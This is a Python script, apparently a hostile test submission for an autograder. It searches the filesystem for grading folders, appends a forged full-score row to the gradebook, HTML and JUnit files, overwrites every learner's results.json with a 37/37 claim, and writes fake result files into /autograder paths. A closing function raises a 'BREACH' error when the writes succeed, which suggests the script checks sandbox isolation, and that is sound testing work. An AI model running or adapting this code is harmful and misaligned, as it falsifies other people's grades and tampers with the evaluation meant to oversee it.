"""Attacks the results: writes full points into every gradebook of this grader that it can find."""

# %%
import json
import os
import sys
import time

NAMES = ("gradebook.csv", "overview.html", "junit.xml")
CLAIM = {"score": 37, "max_score": 37, "tests": [], "extra_data": {"points": 37}}
until = time.monotonic() + 0.8
changed = []


def batches():
    """Folders of results, which hold a grading.json and a folder of learners."""
    tops = [os.getcwd(), "/tmp", os.path.expanduser("~"), *sys.path, "/"]
    for top in dict.fromkeys(tops):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
            if "grading.json" in files and "learners" in folders:
                yield folder
            if time.monotonic() > until:
                return


for batch in batches():
    for name in NAMES:
        try:
            with open(os.path.join(batch, name), "a") as file:
                file.write("hostile,4,5,8,6,5,8,14,5,37,37\n")
            changed.append(name)
        except OSError:
            pass
    for folder, _, files in os.walk(os.path.join(batch, "learners")):
        if "results.json" in files:
            try:
                with open(os.path.join(folder, "results.json"), "w") as file:
                    json.dump(CLAIM, file)
                changed.append(folder)
            except OSError:
                pass

# %%
for place in (os.getcwd(), "/tmp", "/", "/autograder", "/autograder/results"):
    try:
        with open(os.path.join(place, "hostile-results.json"), "w") as file:
            json.dump(CLAIM, file)
    except OSError:
        pass


# %%
def chain(paths):
    if changed:
        raise RuntimeError(f"BREACH: changed {changed[:5]}")
    return "nothing"
